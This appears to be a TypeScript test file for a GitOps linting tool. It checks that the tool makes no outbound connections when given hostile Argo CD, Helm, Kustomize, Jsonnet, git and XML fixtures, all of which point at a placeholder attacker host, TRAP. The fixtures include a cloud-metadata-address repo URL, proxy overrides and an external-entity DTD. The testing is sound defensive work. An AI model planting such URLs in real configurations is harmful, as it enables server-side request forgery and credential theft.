import type { Call, CommandAttack } from '../command-attack.ts';
import {
  type Files,
  app,
  attack,
  chart,
  deployment,
  each,
  evil,
  freely,
  harmless,
  here,
  item,
  json,
  just,
  kustomization,
  map,
  quoted,
  set,
  shown,
  tool,
} from './kit.ts';

const object = map('a', '{ a: b }');
const free = freely(json);

/** SECURITY.md: "make us connect to somewhere: no". Whoever answers at TRAP notes every request. */
const trees: Readonly<Record<string, readonly [files: Files, calls?: readonly Call[]]>> = {
  'a source of git over http': [
    { 'apps/evil.yaml': app('repoURL: http://TRAP/a.git, targetRevision: HEAD, path: .') },
  ],
  'a chart of a repository': [
    { 'apps/evil.yaml': app('repoURL: http://TRAP, chart: a, targetRevision: "*"') },
    [free, just('upgrade', '.', 'main'), just('forecast', '.')],
  ],
  'a chart of a registry': [
    { 'apps/evil.yaml': app('repoURL: TRAP/charts, chart: a, targetRevision: 1.x.x') },
  ],
  'a dependency of a chart': [
    {
      ...chart({ 'a.yaml': object }),
      'evil/Chart.yaml':
        'apiVersion: v2\nname: evil\nversion: 1.0.0\ndependencies: [{ name: a, version: "*", repository: "http://TRAP" }, { name: b, version: 1.0.0, repository: "oci://TRAP/x" }]\n',
    },
    [free, shown('helm', 'template', 'evil'), just('helm', 'lint', 'evil')],
  ],
  'resources of Kustomize': [
    kustomization(
      'resources: ["http://TRAP/a.yaml", "http://TRAP/a.git//x?ref=main", "git::http://TRAP/b.git"]\ncomponents: ["http://TRAP/c"]\n',
    ),
    [free, shown('kustomize', 'build', 'evil'), just('fix', '.', '--all')],
  ],
  'patches and files of Kustomize': [
    kustomization(
      'resources: [a.yaml]\npatches: [{ path: "http://TRAP/p.yaml" }]\nconfigMapGenerator: [{ name: a, files: ["a=http://TRAP/x"], envs: ["http://TRAP/e"] }]\ntransformers: ["http://TRAP/t"]\nopenapi: { path: "http://TRAP/o.json" }\ncrds: ["http://TRAP/crd.yaml"]\n',
      { 'a.yaml': object },
    ),
    [free, shown('kustomize', 'build', 'evil')],
  ],
  'charts of Kustomize': [
    kustomization(
      'helmCharts: [{ name: a, repo: "http://TRAP", version: 1.0.0, valuesFile: "http://TRAP/v.yaml", additionalValuesFiles: ["http://TRAP/w.yaml"] }]\n',
    ),
  ],
  'a schema of values': [
    {
      ...chart({ 'a.yaml': object }, 'a: b\n'),
      'evil/values.schema.json':
        '{"$schema":"http://TRAP/s.json","$id":"http://TRAP/i.json","properties":{"a":{"$ref":"http://TRAP/a.json"},"b":{"$dynamicRef":"http://TRAP/b.json"}}}',
    },
    [free, just('helm', 'lint', 'evil')],
  ],
  'a catalog of schemas': [
    {
      ...harmless,
      'phineus.yaml': 'schemas: ["http://TRAP/{{ .Group }}/{{ .ResourceKind }}.json", "http://TRAP/x"]\n',
      'evil/x.yaml': item('X', 'spec: {}', 'x.example.org/v1'),
    },
    [just('check', '.')],
  ],
  'values files by addresses': [
    {
      'apps/evil.yaml': app(
        `${here}, path: evil, helm: { valueFiles: ["http://TRAP/v.yaml", "git+http://TRAP/x.git@v.yaml", "oci://TRAP/v", "//TRAP/v.yaml"], fileParameters: [{ name: a, path: "http://TRAP/f" }] }`,
      ),
      'evil/Chart.yaml': 'apiVersion: v2\nname: evil\nversion: 1.0.0\n',
      'evil/templates/a.yaml': object,
    },
  ],
  'an import of Jsonnet': [
    evil({ 'a.jsonnet': 'import "http://TRAP/a.libsonnet"\n', 'b.jsonnet': 'importstr "http://TRAP/b"\n' }),
  ],
  'generators of organisations': [
    {
      'apps/evil.yaml': set(
        '[{ scmProvider: { github: { organization: a, api: "http://TRAP/" } } }, { scmProvider: { gitlab: { group: "1", api: "http://TRAP/" } } }, { scmProvider: { gitea: { owner: a, api: "http://TRAP/", insecure: true } } }, { scmProvider: { bitbucketServer: { project: a, api: "http://TRAP/" } } }, { scmProvider: { azureDevOps: { organization: a, teamProject: b, api: "http://TRAP/", accessTokenRef: { secretName: a, key: b } } } }]',
      ),
    },
  ],
  'generators of requests, plug-ins and files elsewhere': [
    {
      'apps/evil.yaml': set(
        '[{ pullRequest: { github: { owner: a, repo: b, api: "http://TRAP/" } } }, { plugin: { configMapRef: { name: p } } }, { git: { repoURL: "http://TRAP/x.git", revision: HEAD, directories: [{ path: "*" }] } }]',
      ),
      'argocd/p.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: p, namespace: argocd }\ndata: { baseUrl: "http://TRAP", token: "$a:b" }\n',
    },
  ],
  'repositories and clusters of Argo CD in the tree': [
    {
      ...harmless,
      'argocd/r.yaml':
        'apiVersion: v1\nkind: Secret\nmetadata: { name: r, namespace: argocd, labels: { argocd.argoproj.io/secret-type: repository } }\nstringData: { url: "http://TRAP/x.git", type: git, proxy: "http://TRAP" }\n',
      'argocd/c.yaml':
        'apiVersion: v1\nkind: Secret\nmetadata: { name: c, namespace: argocd, labels: { argocd.argoproj.io/secret-type: cluster } }\nstringData: { name: c, server: "http://TRAP", config: "{}" }\n',
      'argocd/cm.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: argocd-cm, namespace: argocd }\ndata: { url: "http://TRAP", oidc.config: "issuer: http://TRAP", dex.config: "connectors: [{ type: oidc, config: { issuer: http://TRAP } }]" }\n',
      'apps/evil.yaml': app(`${here}, path: evil`).replace('https://kubernetes.default.svc', 'http://TRAP'),
    },
    [free, just('diagnose', 'argocd'), { ...just('snapshot', 'argocd', '-o', 'x.snap'), writes: ['x.snap'] }],
  ],
  'images, hooks and services that are called': [
    evil({
      'a.yaml': deployment(
        '',
        '',
        ', image: "TRAP/a:latest", livenessProbe: { httpGet: { host: TRAP, path: /, port: 80 } }',
      ).replace(', image: "a:1"', ''),
      'w.yaml':
        'apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata: { name: w }\nwebhooks: [{ name: a.example.org, clientConfig: { url: "http://TRAP" }, sideEffects: None, admissionReviewVersions: [v1] }]\n',
      's.yaml':
        'apiVersion: v1\nkind: Service\nmetadata: { name: s }\nspec: { type: ExternalName, externalName: TRAP }\n',
    }),
    [free, just('report', 'risk', '.'), just('fix', '.', '--all')],
  ],
  'modules and large files of git': [
    {
      ...harmless,
      '.gitmodules': '[submodule "x"]\n\tpath = evil/x\n\turl = http://TRAP/x.git\n\tupdate = checkout\n',
      '.lfsconfig': '[lfs]\n\turl = http://TRAP\n',
      '.gitattributes': '*.yaml filter=lfs diff=lfs\n',
      'evil/l.yaml':
        'version https://git-lfs.github.com/spec/v1\noid sha256:0000000000000000000000000000000000000000000000000000000000000000\nsize 1\n',
    },
    [free, just('diff', '.', 'main')],
  ],
  'documents of other formats': [
    evil({
      'a.yaml': map(
        'a',
        `{ x: ${quoted('<!DOCTYPE a SYSTEM "http://TRAP/a.dtd"><a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://TRAP/x"/></a>')}, y: "{\\"$ref\\":\\"http://TRAP/r.json\\"}" }`,
      ),
      'b.yaml': '%TAG ! http://TRAP/\n--- !a\na: !<http://TRAP/t> b\n',
    }),
  ],
  'proxies and addresses of the metadata of a cloud': [
    {
      'apps/evil.yaml': app(
        'repoURL: "http://TRAP@169.254.169.254/", chart: a, targetRevision: 1.0.0, helm: { parameters: [{ name: proxy, value: "http://TRAP" }] }',
      ),
      '.curlrc': 'proxy = http://TRAP\n',
      '.wgetrc': 'http_proxy = http://TRAP\n',
    },
  ],
  'a lock that names other hosts': [
    {
      'apps/evil.yaml': app('repoURL: https://charts.example.org, chart: a, targetRevision: 1.0.0'),
      'phineus.charts.lock.yaml':
        'charts:\n- { repository: "http://TRAP", name: a, version: 1.0.0, url: "http://TRAP/a.tgz", digest: "sha256:00" }\n',
      'phineus.images.lock.yaml': 'images: { "a:1": { registry: "http://TRAP" } }\n',
    },
    [just('check', '.')],
  ],
};

/** Other commands on one tree that names TRAP wherever it can. */
const called: Files = {
  'apps/evil.yaml': app('repoURL: http://TRAP, chart: a, targetRevision: 1.0.0'),
  'apps/b.yaml': app('repoURL: http://TRAP/b.git, targetRevision: HEAD, path: x', '', 'b'),
  'o.yaml': item('X', 'spec: { url: "http://TRAP" }', 'x.example.org/v1'),
};
const commands: Readonly<Record<string, Call>> = {
  explain: just('explain', '--all', '.'),
  blame: just('blame', '.', 'evil', 'ConfigMap/a'),
  parity: just('parity', '.', '-o', 'json'),
  prove: just('prove', '.', 'main'),
  init: { ...just('init', '.', '--force'), writes: ['phineus.yaml'] },
  health: just('health', 'o.yaml'),
  waves: just('report', 'waves', '.'),
  render: shown('render', '.'),
  mcp: {
    args: ['mcp', '.'],
    asks: [
      tool('check', {}),
      tool('diff', { range: 'main' }),
      tool('propose_fix', { findings: ['source-not-found'] }),
    ],
  },
  lsp: {
    args: ['lsp'],
    asks: [
      {
        method: 'textDocument/documentLink',
        params: { textDocument: { uri: 'file://TREE/apps/evil.yaml' } },
      },
      {
        method: 'textDocument/hover',
        params: { textDocument: { uri: 'file://TREE/apps/evil.yaml' }, position: { line: 6, character: 20 } },
      },
    ],
  },
};

export const network: readonly CommandAttack[] = [
  ...each(trees, (name, [files, calls = [free]]) =>
    attack(`network: ${name}`, files, { server: () => ({}), calls }),
  ),
  ...each(commands, (name, call) =>
    attack(`network: by ${name}`, called, { server: () => ({}), calls: [call] }),
  ),
];
